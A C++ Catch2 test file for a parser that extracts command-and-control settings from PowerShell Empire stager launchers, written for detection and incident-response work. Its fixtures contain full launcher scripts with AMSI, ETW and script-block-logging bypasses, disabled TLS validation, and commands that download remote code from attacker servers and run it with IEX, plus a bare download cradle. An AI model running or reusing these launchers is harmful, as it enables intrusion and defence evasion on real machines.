#include "ioc/stager/empire.hpp"

#include <catch2/catch.hpp>

#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "ioc/codec/base64.hpp"
#include "ioc/codec/rc4.hpp"
#include "ioc/codec/utf16.hpp"
#include "ioc/text/regex.hpp"

using ioc::ErrorCode;
using ioc::stager::decrypt_empire_cookie;
using ioc::stager::EmpireConfig;
using ioc::stager::parse_empire_stager;

namespace {

std::vector<nlohmann::json> read_jsonl(const std::string& path) {
  std::vector<nlohmann::json> out;
  std::ifstream in(path);
  std::string line;
  while (std::getline(in, line)) {
    if (!line.empty()) out.push_back(nlohmann::json::parse(line));
  }
  return out;
}

/// The script behind "-enc <base64>" in a command line.
std::string decode_enc(const std::string& cmdline) {
  auto re = ioc::text::Regex::compile(R"(-enc\s+([A-Za-z0-9+/=]+))", {.case_insensitive = true});
  if (!re) return {};
  auto m = re->find_all(cmdline, 1, 1);
  if (m.empty()) return {};
  auto bytes = ioc::codec::decode_base64(m.front());
  if (!bytes) return {};
  auto text = ioc::codec::decode_utf16(*bytes, ioc::codec::Endian::kLittle);
  return text ? *text : std::string();
}

/// A launcher cookie made the way Empire makes it.
std::string make_cookie(const std::string& iv, const std::string& key, const std::string& header) {
  auto enc = ioc::codec::rc4(iv + key, header);
  return enc ? ioc::codec::encode_base64(iv + *enc) : std::string();
}

std::string launcher_header() {
  return std::string("00000000\x01\x01\0\0\0\0\0\0", 16);
}

void check_against(const EmpireConfig& cfg, const nlohmann::json& e) {
  CHECK(cfg.variant == e["variant"].get<std::string>());
  CHECK(cfg.ua == e["ua"].get<std::string>());
  CHECK(cfg.server == e["server"].get<std::string>());
  CHECK(cfg.server_encoding == e["server_encoding"].get<std::string>());
  CHECK(cfg.uris == e["uris"].get<std::vector<std::string>>());
  CHECK(cfg.staging_key == e["staging_key"].get<std::string>());
  CHECK(cfg.cookie_name == e["cookie_name"].get<std::string>());
  CHECK(cfg.session_cookie == e["session_cookie"].get<std::string>());
  if (e["cookie_decoded"].is_null()) {
    CHECK_FALSE(cfg.cookie_decoded.has_value());
  } else {
    REQUIRE(cfg.cookie_decoded.has_value());
    const auto& d = e["cookie_decoded"];
    CHECK(cfg.cookie_decoded->session_id == d["session_id"].get<std::string>());
    CHECK(cfg.cookie_decoded->language == d["language"].get<int>());
    CHECK(cfg.cookie_decoded->meta == d["meta"].get<int>());
    CHECK(cfg.cookie_decoded->additional == d["additional"].get<int>());
    CHECK(cfg.cookie_decoded->length == d["length"].get<std::uint32_t>());
    CHECK(cfg.cookie_decoded->verified == d["verified"].get<bool>());
  }
  CHECK(cfg.proxy.mode == e["proxy"]["mode"].get<std::string>());
  CHECK(cfg.proxy.url == e["proxy"]["url"].get<std::string>());
  CHECK(cfg.proxy.creds == e["proxy"]["creds"].get<std::string>());
  CHECK(cfg.bypasses == e["bypasses"].get<std::vector<std::string>>());
  CHECK(cfg.tls_validation_disabled == e["tls_validation_disabled"].get<bool>());
  CHECK(cfg.custom_headers == e["custom_headers"].get<std::vector<std::string>>());
  CHECK(cfg.confidence >= 0.6);
  CHECK(cfg.confidence <= 1.0);
}

// The BOTSv2-era launcher as the brief describes it, case left alone.
const std::string kBotsV2 =
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')|?{$_}|%{$_.GetField("
    "'amsiInitFailed','NonPublic,Static').SetValue($null,$true)};[System.Net.ServicePointManager]::"
    "Expect100Continue=0;$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; "
    "WOW64; Trident/7.0; rv:11.0) like Gecko';$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System."
    "Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials = [System.Net.CredentialCache]::"
    "DefaultNetworkCredentials;$K=[System.Text.Encoding]::ASCII.GetBytes('COOKIE_KEY');$R={$D,$K="
    "$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%"
    "{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}"
    "};$wc.Headers.Add(\"Cookie\",\"session=COOKIE_VALUE\");$ser='https://45.77.65.211:443';$t='/"
    "admin/get.php';$data=$WC.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];"
    "-join[Char[]](& $R $data ($IV+$K))|IEX";

const std::string kKey = "389288edd78e8ea2f54946d3209b16b8";
const std::string kIv("\x00\x01\x02\x03", 4);  // NULs included

std::string bots_v2(const std::string& cookie, const std::string& key = kKey) {
  std::string s = kBotsV2;
  s.replace(s.find("COOKIE_KEY"), 10, key);
  s.replace(s.find("COOKIE_VALUE"), 12, cookie);
  return s;
}

void replace_all(std::string& s, const std::string& from, const std::string& to) {
  for (std::size_t p = s.find(from); p != std::string::npos; p = s.find(from, p + to.size())) {
    s.replace(p, from.size(), to);
  }
}

}  // namespace

TEST_CASE("empire: every generated launcher parses to its expected fields", "[stager][empire]") {
  const auto lines = read_jsonl(IOC_TEST_DATA_DIR "/empire-launchers.jsonl");
  REQUIRE(lines.size() == 60);
  int parsed = 0;
  int registry = 0;
  for (const auto& line : lines) {
    const auto& e = line["expected"];
    if (!e.contains("variant")) {  // schtasks: the launcher is in the registry
      CHECK(e.contains("persistence"));
      CHECK(e["registry_payload"]["encoding"] == "base64_utf16le");
      ++registry;
      continue;
    }
    const std::string script = line["script"].get<std::string>();
    INFO(line["generation"].get<std::string>()
         << " / " << line["wrapper"].get<std::string>() << "\n"
         << script);
    CHECK(e["variant"] == line["generation"]);
    // The command line carries the same script as -enc base64 of UTF-16LE.
    CHECK(decode_enc(line["cmdline"].get<std::string>()) == script);
    auto cfg = parse_empire_stager(script);
    REQUIRE(cfg.has_value());
    check_against(*cfg, e);
    if (cfg->cookie_decoded) {
      auto again = decrypt_empire_cookie(cfg->session_cookie, cfg->staging_key);
      REQUIRE(again.has_value());
      CHECK(again->verified);
    }
    ++parsed;
  }
  CHECK(parsed == 54);
  CHECK(registry == 6);
}

TEST_CASE("empire: the registry payload of a schtasks entry is a launcher", "[stager][empire]") {
  const auto lines = read_jsonl(IOC_TEST_DATA_DIR "/empire-launchers.jsonl");
  int seen = 0;
  for (const auto& line : lines) {
    const auto& e = line["expected"];
    if (!e.contains("registry_payload")) continue;
    auto bytes = ioc::codec::decode_base64(e["registry_payload"]["value"].get<std::string>());
    REQUIRE(bytes.has_value());
    auto script = ioc::codec::decode_utf16(*bytes, ioc::codec::Endian::kLittle);
    REQUIRE(script.has_value());
    auto cfg = parse_empire_stager(*script);
    REQUIRE(cfg.has_value());
    CHECK(cfg->variant == line["generation"].get<std::string>());
    CHECK(line["cmdline"].get<std::string>().find(
              e["persistence"]["task_name"].get<std::string>()) != std::string::npos);
    ++seen;
  }
  CHECK(seen == 6);
}

TEST_CASE("empire: decrypt_empire_cookie", "[stager][empire]") {
  const std::string iv("\x11\x22\x33\x44", 4);
  SECTION("a launcher cookie verifies with its key") {
    auto c = decrypt_empire_cookie(make_cookie(iv, kKey, launcher_header()), kKey);
    REQUIRE(c.has_value());
    CHECK(c->session_id == "00000000");
    CHECK(c->language == 1);
    CHECK(c->meta == 1);
    CHECK(c->additional == 0);
    CHECK(c->length == 0);
    CHECK(c->verified);
  }
  SECTION("with another key it decrypts to noise, not verified") {
    auto c = decrypt_empire_cookie(make_cookie(iv, kKey, launcher_header()),
                                   "00000000000000000000000000000000");
    REQUIRE(c.has_value());
    CHECK_FALSE(c->verified);
    CHECK(c->session_id.size() == 8);
  }
  SECTION("an agent's header: session id, language, meta, additional and length read back") {
    std::string header = "ABCD1234";
    header += std::string("\x02\x05\x34\x12\x78\x56\x34\x12", 8);
    auto c = decrypt_empire_cookie(make_cookie(iv, kKey, header), kKey);
    REQUIRE(c.has_value());
    CHECK(c->session_id == "ABCD1234");
    CHECK(c->language == 2);
    CHECK(c->meta == 5);
    CHECK(c->additional == 0x1234);
    CHECK(c->length == 0x12345678u);
    CHECK_FALSE(c->verified);
  }
  SECTION("language 1 but meta 2 is not a launcher") {
    std::string header = launcher_header();
    header[9] = 2;
    auto c = decrypt_empire_cookie(make_cookie(iv, kKey, header), kKey);
    REQUIRE(c.has_value());
    CHECK(c->meta == 2);
    CHECK_FALSE(c->verified);
  }
  SECTION("non-printable session id bytes are marked") {
    std::string header = launcher_header();
    header[0] = '\x01';
    header[7] = '\xff';
    auto c = decrypt_empire_cookie(make_cookie(iv, kKey, header), kKey);
    REQUIRE(c.has_value());
    CHECK(c->session_id == "?000000?");
  }
  SECTION("bad input is kInvalidInput") {
    auto short_cookie =
        decrypt_empire_cookie(ioc::codec::encode_base64(std::string(19, 'a')), kKey);
    REQUIRE_FALSE(short_cookie.has_value());
    CHECK(short_cookie.error().code == ErrorCode::kInvalidInput);
    auto not_b64 = decrypt_empire_cookie("E2Hzj61lui7hWMYQ!e63WUws0zZ8=", kKey);
    REQUIRE_FALSE(not_b64.has_value());
    CHECK(not_b64.error().code == ErrorCode::kInvalidInput);
    auto empty = decrypt_empire_cookie("", kKey);
    REQUIRE_FALSE(empty.has_value());
    CHECK(empty.error().code == ErrorCode::kInvalidInput);
    auto long_key =
        decrypt_empire_cookie(make_cookie(iv, kKey, launcher_header()), std::string(300, 'k'));
    REQUIRE_FALSE(long_key.has_value());
    CHECK(long_key.error().code == ErrorCode::kInvalidInput);
  }
  SECTION("an empty staging key still decrypts (RC4 keyed by the IV alone)") {
    auto c = decrypt_empire_cookie(make_cookie(iv, "", launcher_header()), "");
    REQUIRE(c.has_value());
    CHECK(c->verified);
  }
}

TEST_CASE("empire: the BOTSv2 launcher, hand-written", "[stager][empire]") {
  const std::string cookie = make_cookie("\xde\xad\xbe\xef", kKey, launcher_header());
  auto cfg = parse_empire_stager(bots_v2(cookie));
  REQUIRE(cfg.has_value());
  CHECK(cfg->variant == "2.0");
  CHECK(cfg->server == "https://45.77.65.211:443");
  CHECK(cfg->server_encoding == "plain");
  CHECK(cfg->uris == std::vector<std::string>{"/admin/get.php"});
  CHECK(cfg->ua == "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko");
  CHECK(cfg->staging_key == kKey);
  CHECK(cfg->cookie_name == "session");
  CHECK(cfg->session_cookie == cookie);
  REQUIRE(cfg->cookie_decoded.has_value());
  CHECK(cfg->cookie_decoded->verified);
  CHECK(cfg->proxy.mode == "default");
  CHECK(cfg->proxy.creds == "default");
  CHECK(cfg->bypasses == std::vector<std::string>{"amsi"});
  CHECK_FALSE(cfg->tls_validation_disabled);
  CHECK(cfg->custom_headers.empty());
  CHECK(cfg->confidence == Approx(1.0));

  SECTION("a cookie made with another key parses but does not verify") {
    const std::string other = make_cookie("\x01\x02\x03\x04", "x", launcher_header());
    auto c = parse_empire_stager(bots_v2(other));
    REQUIRE(c.has_value());
    REQUIRE(c->cookie_decoded.has_value());
    CHECK_FALSE(c->cookie_decoded->verified);
  }
  SECTION("a cookie that is not base64 of 20 bytes is reported, not decoded") {
    auto c = parse_empire_stager(bots_v2("c2hvcnQ="));
    REQUIRE(c.has_value());
    CHECK(c->session_cookie == "c2hvcnQ=");
    CHECK_FALSE(c->cookie_decoded.has_value());
  }
}

TEST_CASE("empire: obfuscation inside the launcher is normalized", "[stager][empire]") {
  const std::string cookie = make_cookie(kIv, kKey, launcher_header());
  std::string s = bots_v2(cookie);
  SECTION("concatenated literals, backticks and double quotes") {
    replace_all(s, "'https://45.77.65.211:443'", "'https://45.77'+ '.65.211'  +\"`:443\"");
    replace_all(s, "'/admin/get.php'", "'/admin/'+'get.php'");
    replace_all(s, ".DownloadData(", ".Downl`oadData(");
    replace_all(s, "'User-Agent'", "'User-'+'Agent'");
    replace_all(s, "'AmsiUtils'", "'Amsi'+'Utils'");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
    CHECK(cfg->uris == std::vector<std::string>{"/admin/get.php"});
    CHECK(cfg->ua.substr(0, 11) == "Mozilla/5.0");
    REQUIRE(cfg->cookie_decoded.has_value());
    CHECK(cfg->cookie_decoded->verified);
  }
  SECTION("doubled quotes inside single-quoted values") {
    replace_all(s, "$u='Mozilla", "$u='It''s Mozilla");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->ua.substr(0, 16) == "It's Mozilla/5.0");
  }
  SECTION("variables are followed whatever their case and scope") {
    replace_all(s, "$ser='", "$Script:SER='");
    replace_all(s, "$t='", "$T = '");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
    CHECK(cfg->uris == std::vector<std::string>{"/admin/get.php"});
  }
  SECTION("the last assignment before the use wins") {
    replace_all(s, "$ser='https://45.77.65.211:443';",
                "$ser='http://decoy.example';$ser='https://45.77.65.211:443';");
    replace_all(s, "|IEX", "|IEX;$ser='http://later.example'");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
  }
  SECTION("a URL given whole to DownloadData is split into server and URI") {
    replace_all(s, "DownloadData($ser+$t)", "DownloadData('http://10.1.2.3:8080/news.php')");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "http://10.1.2.3:8080");
    CHECK(cfg->uris == std::vector<std::string>{"/news.php"});
  }
  SECTION("a list of URIs") {
    replace_all(s, "$t='/admin/get.php'", "$t=@('/admin/get.php','/news.php')|Get-Random");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->uris == std::vector<std::string>{"/admin/get.php", "/news.php"});
  }
  SECTION("comments are ignored") {
    replace_all(s, "$ser=", "<# $ser='http://comment.example' #>$ser=");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
  }
}

TEST_CASE("empire: proxy settings", "[stager][empire]") {
  const std::string cookie = make_cookie(kIv, kKey, launcher_header());
  const std::string base = bots_v2(cookie);
  const std::string def =
      "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials = "
      "[System.Net.CredentialCache]::DefaultNetworkCredentials;";
  REQUIRE(base.find(def) != std::string::npos);
  auto with = [&](const std::string& proxy) {
    std::string s = base;
    s.replace(s.find(def), def.size(), proxy);
    return parse_empire_stager(s);
  };
  SECTION("empty proxy") {
    auto cfg = with("$wc.Proxy=[System.Net.GlobalProxySelection]::GetEmptyWebProxy();");
    REQUIRE(cfg.has_value());
    CHECK(cfg->proxy.mode == "none");
    CHECK(cfg->proxy.creds == "none");
  }
  SECTION("$null proxy") {
    auto cfg = with("$wc.Proxy = $null;");
    REQUIRE(cfg.has_value());
    CHECK(cfg->proxy.mode == "none");
  }
  SECTION("explicit proxy through a variable, explicit credentials") {
    auto cfg = with(
        "$proxy=New-Object Net.WebProxy('http://proxy.corp.local:8080');$wc.Proxy = $proxy;"
        "$nc = New-Object System.Net.NetworkCredential('bob','hunter2');$wc.Proxy.Credentials = "
        "$nc;");
    REQUIRE(cfg.has_value());
    CHECK(cfg->proxy.mode == "explicit");
    CHECK(cfg->proxy.url == "http://proxy.corp.local:8080");
    CHECK(cfg->proxy.creds == "explicit");
  }
  SECTION("explicit proxy inline, default credentials") {
    auto cfg = with(
        "$wc.Proxy = New-Object System.Net.WebProxy(\"http://10.0.0.1:3128\");"
        "$wc.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;");
    REQUIRE(cfg.has_value());
    CHECK(cfg->proxy.mode == "explicit");
    CHECK(cfg->proxy.url == "http://10.0.0.1:3128");
    CHECK(cfg->proxy.creds == "default");
  }
  SECTION("no proxy lines: the WebClient's default proxy without credentials") {
    auto cfg = with("");
    REQUIRE(cfg.has_value());
    CHECK(cfg->proxy.mode == "default");
    CHECK(cfg->proxy.creds == "none");
  }
}

TEST_CASE("empire: bypasses, TLS and custom headers", "[stager][empire]") {
  const std::string cookie = make_cookie(kIv, kKey, launcher_header());
  std::string s = bots_v2(cookie);
  const std::string etw =
      "[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance')."
      "SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider')."
      "GetField('etwProvider','NonPublic,Static').GetValue($null),0);";
  const std::string sbl =
      "$GPS=[ref].Assembly.GetType('System.Management.Automation.Utils').\"GetFie`ld\"("
      "'cachedGroupPolicySettings','N'+'onPublic,Static').GetValue($null);";
  s = etw + sbl +
      "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true };" + s;
  replace_all(s, "$wc.Headers.Add('User-Agent',$u);",
              "$wc.Headers.Add('User-Agent',$u);$wc.Headers.Add(\"Host\",\"cdn.example.net\");"
              "$h='en-US';$wc.Headers.Add('Accept-Language',$h);");
  auto cfg = parse_empire_stager(s);
  REQUIRE(cfg.has_value());
  CHECK(cfg->bypasses == std::vector<std::string>{"amsi", "scriptblock_logging", "etw"});
  CHECK(cfg->tls_validation_disabled);
  CHECK(cfg->custom_headers ==
        std::vector<std::string>{"Host: cdn.example.net", "Accept-Language: en-US"});
  CHECK(cfg->variant == "bc-3.x-5.x");  // ETW bypass

  SECTION("a callback that does more than return $true is not 'disabled'") {
    std::string t = s;
    replace_all(t, "{ $true }", "{ param($a) $a -ne $null }");
    auto c = parse_empire_stager(t);
    REQUIRE(c.has_value());
    CHECK_FALSE(c->tls_validation_disabled);
  }
}

TEST_CASE("empire: variants from their markers", "[stager][empire]") {
  const std::string cookie = make_cookie(kIv, kKey, launcher_header());
  std::string s = bots_v2(cookie);
  SECTION("a renamed cookie, case left alone: BC-Security") {
    replace_all(s, "\"session=", "\"fkjStsjY=");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->cookie_name == "fkjStsjY");
    CHECK(cfg->variant == "bc-3.x-5.x");
  }
  SECTION("a renamed cookie with randomized case: 2.5-dev") {
    replace_all(s, "\"session=", "\"fkjStsjY=");
    replace_all(s, "New-Object System.Net.WebClient", "NeW-ObJeCt SySTem.Net.WebCLIENT");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->variant == "2.5-dev");
  }
  SECTION("a base64 UTF-16LE server") {
    replace_all(s, "$ser='https://45.77.65.211:443'",
                "$ser=$([TexT.EnCODiNg]::UNIcODE.GetStriNG([COnvERT]::FRoMBAsE64StriNg("
                "'aAB0AHQAcAA6AC8ALwAxADAALgAxADAALgAxADAALgA1AA==')))");
    replace_all(s, "New-Object", "NEW-object");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "http://10.10.10.5");
    CHECK(cfg->server_encoding == "base64_utf16le");
    CHECK(cfg->variant == "2.5-dev");
  }
  SECTION("the script-block-logging bypass without 2.5 markers: 2.2-2.4") {
    s = "If($PSVersionTable.PSVersion.Major -ge 3){$GPS=[ref].Assembly.GetType('System."
        "Management.Automation.Utils').\"GetFie`ld\"('cachedGroupPolicySettings','N'+'onPublic,"
        "Static').GetValue($null);If($GPS['ScriptB'+'lockLogging']){$GPS['ScriptB'+'lockLogging']"
        "['EnableScriptB'+'lockLogging']=0}};" +
        s;
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->variant == "2.2-2.4");
    CHECK(cfg->bypasses == std::vector<std::string>{"amsi", "scriptblock_logging"});
  }
  SECTION("no RC4 block, the stage run from UTF-8: 6.3+, cookie not decrypted") {
    const std::size_t r = s.find("$R={");
    const std::size_t r_end = s.find("}};", r) + 3;
    s.erase(r, r_end - r);
    const std::size_t tail = s.find("$iv=$data[0..3]");
    s.replace(tail, std::string::npos, "IEX ([Text.Encoding]::UTF8.GetString($data))");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->variant == "6.3+");
    CHECK(cfg->session_cookie == cookie);
    CHECK_FALSE(cfg->cookie_decoded.has_value());
  }
}

TEST_CASE("empire: markers, tokens and assignments wherever they are", "[stager][empire]") {
  const std::string cookie = make_cookie(kIv, kKey, launcher_header());
  std::string s = bots_v2(cookie);
  SECTION("a backtick-escaped $ in code still starts an assignment") {
    replace_all(s, "$ser=", "`$ser=");
    auto cfg = parse_empire_stager(s);
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
  }
  SECTION("a marker in the script's last bytes counts, a cut one does not") {
    replace_all(s, "[System.Net.ServicePointManager]::Expect100Continue=0;", "");
    auto without = parse_empire_stager(s);
    REQUIRE(without.has_value());
    CHECK(without->confidence == Approx(0.9));
    auto last = parse_empire_stager(s + ";[System.Net.ServicePointManager]::Expect100Continue");
    REQUIRE(last.has_value());
    CHECK(last->confidence == Approx(1.0));
    auto cut = parse_empire_stager(s + ";[System.Net.ServicePointManager]::Expect100Continu");
    REQUIRE(cut.has_value());
    CHECK(cut->confidence == Approx(0.9));
  }
  SECTION("randomized case is read from code, not from literals") {
    replace_all(s, "session=", "x9=");  // a renamed cookie: 2.5-dev or BC-Security
    auto usual = parse_empire_stager(s);
    REQUIRE(usual.has_value());
    CHECK(usual->variant == "bc-3.x-5.x");
    std::string in_literal = s;
    replace_all(in_literal, "System.Net.WebClient;", "System.Net.WebClient;$z='new-object';");
    auto quoted = parse_empire_stager(in_literal);
    REQUIRE(quoted.has_value());
    CHECK(quoted->variant == "bc-3.x-5.x");
    replace_all(s, "New-Object", "new-object");
    auto randomized = parse_empire_stager(s);
    REQUIRE(randomized.has_value());
    CHECK(randomized->variant == "2.5-dev");
  }
}

TEST_CASE("empire: not a launcher", "[stager][empire]") {
  CHECK_FALSE(parse_empire_stager("").has_value());
  CHECK_FALSE(parse_empire_stager("Get-Process | Where-Object { $_.CPU -gt 100 }").has_value());
  // A plain download cradle has a WebClient and a download, nothing else of Empire's.
  CHECK_FALSE(parse_empire_stager("IEX ((New-Object Net.WebClient).DownloadString("
                                  "'http://10.0.0.1/a.ps1'))")
                  .has_value());
  CHECK_FALSE(parse_empire_stager("$wc=New-Object System.Net.WebClient;$wc.Headers.Add("
                                  "'User-Agent','x');$d=$wc.DownloadData('http://a/b')")
                  .has_value());
  // Without any download call nothing is returned, whatever else is there.
  std::string s = bots_v2(make_cookie(kIv, kKey, launcher_header()));
  replace_all(s, "DownloadData", "UploadData");
  CHECK_FALSE(parse_empire_stager(s).has_value());
}

TEST_CASE("empire: hostile input stays bounded", "[stager][empire]") {
  SECTION("unterminated literals and brackets") {
    CHECK_FALSE(parse_empire_stager("$wc.DownloadData('").has_value());
    CHECK_FALSE(parse_empire_stager("$wc.Headers.Add(\"Cookie\",\"").has_value());
    CHECK_FALSE(parse_empire_stager("@'\n").has_value());
    CHECK_FALSE(parse_empire_stager("$a=$b;$b=$a;$wc.DownloadData($a+$b)").has_value());
  }
  SECTION("a megabyte of repeated calls") {
    std::string big;
    while (big.size() < 1024 * 1024) big += "$x.Headers.Add($x,$x);$x=$x+$x;.DownloadData((((";
    auto cfg = parse_empire_stager(big);
    CHECK_FALSE(cfg.has_value());
  }
  SECTION("a hundred thousand assignments to the variables it follows") {
    std::string many;
    for (int i = 0; i < 100000; ++i) many += "$ser='x';$t='y';";
    auto cfg = parse_empire_stager(many + bots_v2(make_cookie(kIv, kKey, launcher_header())));
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
    CHECK(cfg->uris == std::vector<std::string>{"/admin/get.php"});
  }
  SECTION("a real launcher inside a megabyte of noise still parses") {
    std::string noise(1024 * 1024, 'a');
    auto cfg =
        parse_empire_stager(noise + ";" + bots_v2(make_cookie(kIv, kKey, launcher_header())));
    REQUIRE(cfg.has_value());
    CHECK(cfg->server == "https://45.77.65.211:443");
  }
}

TEST_CASE("empire: a real 2.5-dev launcher (Mordor, OTRF Security-Datasets)", "[stager][empire]") {
  // Shortened from a decoded launcher of the OTRF empire_launcher_vbs dataset: the
  // SBL bypass is cut, the rest is as logged.
  const std::string real =
      "IF($PSVeRsiONTABLe.PSVerSION.MAJoR -GE 3){$REF=[REf].ASSeMBlY.GETTypE('System.Management."
      "Automation.Amsi'+'Utils');$ReF.GETFIeLd('amsiInitF'+'ailed','NonPublic,Static').SeTVALUe("
      "$NulL,$true);};[SYsTem.NEt.SErviCePoINTMAnaGER]::ExPect100COntinUe=0;$F94E=New-ObJECt "
      "SYsTEM."
      "NeT.WebCLienT;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like "
      "Gecko';$ser="
      "$([TexT.EnCODiNg]::UNIcODE.GetStriNG([COnvERT]::FRoMBAsE64StriNg('aAB0AHQAcAA6AC8ALwAxADAALg"
      "AxADAALgAxADAALgA1AA==')));$t='/news.php';$f94E.HEaderS.ADd('User-Agent',$u);$f94e.PROxY=["
      "SYsteM.Net.WEbREQuEst]::DeFAULtWEBPROXy;$F94E.PrOXY.CReDentIaLS = "
      "[SYSTeM.Net.CrEdeNTiAlCAche"
      "]::DefAultNEtwORkCreDENtialS;$Script:Proxy = $f94e.Proxy;$K=[SyStem.Text.EnCoding]::ASCII."
      "GetByteS('3+Ymcn)s0r8=#dxZ65;}O%|LlHi~f{zB');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_"
      "]+$K[$_%$K.COUnt])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S"
      "[$I],$S[$H]=$S[$H],$S[$I];$_-bXor$S[($S[$I]+$S[$H])%256]}};$F94E.HeADeRS.Add(\"Cookie\",\""
      "JQOHuDGrNLGeOPyl=E2Hzj61lui7hWMYQe63WUws0zZ8=\");$datA=$f94E.DOWnLoADData($seR+$t);$Iv=$data"
      "[0..3];$dAtA=$Data[4..$daTA.lenGTH];-joIN[CHAr[]](& $R $daTA ($IV+$K))|IEX";
  auto cfg = parse_empire_stager(real);
  REQUIRE(cfg.has_value());
  CHECK(cfg->variant == "2.5-dev");
  CHECK(cfg->server == "http://10.10.10.5");
  CHECK(cfg->uris == std::vector<std::string>{"/news.php"});
  CHECK(cfg->staging_key == "3+Ymcn)s0r8=#dxZ65;}O%|LlHi~f{zB");
  CHECK(cfg->cookie_name == "JQOHuDGrNLGeOPyl");
  CHECK(cfg->session_cookie == "E2Hzj61lui7hWMYQe63WUws0zZ8=");
  REQUIRE(cfg->cookie_decoded.has_value());
  CHECK(cfg->cookie_decoded->verified);
  CHECK(cfg->bypasses == std::vector<std::string>{"amsi"});
}

TEST_CASE("empire: real launchers of the shared corpus", "[stager][empire][corpus]") {
  const std::string path = IOC_SOURCE_DIR "/../shared/corpus/psdecode/real-cmdlines.jsonl";
  std::ifstream probe(path);
  if (!probe) {
    WARN("skipped: " << path << " is absent");
    return;
  }
  int launchers = 0;
  int verified = 0;
  for (const auto& line : read_jsonl(path)) {
    const std::string framework = line["framework"].get<std::string>();
    if (framework.find("Empire (") == std::string::npos) continue;
    std::string cmdline = line["cmdline"].get<std::string>();
    // One entry is the registry value itself: bare base64.
    if (cmdline.find(' ') == std::string::npos) cmdline = "-enc " + cmdline;
    const std::string script = decode_enc(cmdline);
    INFO(line["id"].get<std::string>());
    REQUIRE_FALSE(script.empty());
    auto cfg = parse_empire_stager(script);
    REQUIRE(cfg.has_value());
    ++launchers;
    CHECK(cfg->server.substr(0, 7) == "http://");
    CHECK(cfg->staging_key.size() == 32);
    CHECK(cfg->uris.size() == 1);
    CHECK(cfg->ua.substr(0, 11) == "Mozilla/5.0");
    if (framework.find("BC-Security 3") != std::string::npos) {
      CHECK(cfg->variant == "bc-3.x-5.x");
      CHECK(cfg->bypasses == std::vector<std::string>{"amsi", "etw"});
    } else {
      CHECK(cfg->variant == "2.5-dev");
      CHECK(cfg->bypasses == std::vector<std::string>{"amsi", "scriptblock_logging"});
    }
    REQUIRE(cfg->cookie_decoded.has_value());
    CHECK(cfg->cookie_decoded->verified);
    verified += cfg->cookie_decoded->verified;
  }
  CHECK(launchers == 14);
  CHECK(verified == launchers);
}
